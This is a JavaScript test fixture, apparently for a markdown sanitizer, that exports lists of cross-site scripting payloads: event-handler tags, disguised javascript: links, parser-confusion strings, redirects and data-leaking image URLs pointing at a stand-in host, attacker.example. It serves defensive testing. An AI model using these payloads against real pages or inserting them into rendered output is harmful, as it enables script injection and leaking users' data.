// Markdown that tries to run a script, fetch something or navigate, by kind. Each script calls pwn().

const HOST = 'https://attacker.example'

/** Raw HTML. */
const elements = [
  '<script>pwn()</script>',
  '<img src="x" onerror="pwn()" alt="soup">',
  '<svg onload=pwn()></svg>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  `<base href="${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}">`,
  `<style>@import "${HOST}/a.css"; body { display: none }</style>`,
  `<form action="${HOST}"><button>Suggest a recipe</button></form>`,
  '<input autofocus onfocus=pwn()>',
  '<details open ontoggle=pwn()>soup</details>',
  '<div onmouseover="pwn()" onclick="pwn()">soup</div>',
  '<a href="javascript:pwn()">soup</a>',
  '<div id="root">soup</div><div name="getElementById">soup</div>',
]

/** Text that two parsers read in different ways. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwn()>',
  '<![CDATA[><img src=x onerror=pwn()>]]>',
  '<textarea><img title="</textarea><img src=x onerror=pwn()>"></textarea>',
  '<a href="x"<img src=x onerror=pwn()>>',
  '`<img src=x onerror=pwn()>\n\n<img src=x onerror=pwn()>`',
  '- <script>\n  pwn()\n  </script>',
  '| a |\n| - |\n| <img src=x onerror=pwn()> |',
  '<p>\n\n**soup**\n\n<script>pwn()</script>\n\n</p>',
]

const schemes = [
  'javascript:pwn()',
  'JaVaScRiPt:pwn()',
  '&#106;avascript:pwn()',
  'java&#9;script:pwn()',
  'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
  '//attacker.example/a',
  '/\\attacker.example/a',
]

/** Each scheme in every form of a link. */
const addresses = schemes.map((url) =>
  [
    `[soup](<${url}>)`,
    `[soup][r]\n\n[r]: <${url}>`,
    `![soup](<${url}>)`,
    ...(/^[a-z]+:/i.test(url) && !/[\s<]/.test(url) ? [`<${url}>`] : []),
  ].join('\n\n'),
)

/** Images whose URL carries data to a server. */
const pictures = [
  `![soup](${HOST}/a.png?list=egg)`,
  `![soup][p]\n\n[p]: ${HOST}/e.png`,
  `[![soup](${HOST}/g.png)](${HOST}/h)`,
  `| ![soup](${HOST}/l.png) |\n| - |`,
]

/** Text that tries to end the attribute or the name that contains it. */
const breakouts = [
  '[soup](http://a.example "\\" onclick=\\"pwn()")',
  '![" onerror="pwn()](x)',
  '![soup](x" onerror="pwn\\(\\))',
  '```" onclick="pwn()\nsoup\n```',
  '[^<img src=x onerror=pwn()>]\n\n[^<img src=x onerror=pwn()>]: soup',
  '[__proto__]\n\n[__proto__]: http://a.example',
  'www.a.example/"onclick="pwn()',
  '<http://a.example/" onclick="pwn()>',
  '<mailto:a@b.example?body=%0d%0aBcc:c@d.example>',
]

export const PAYLOADS = { elements, mutations, addresses, pictures, breakouts }
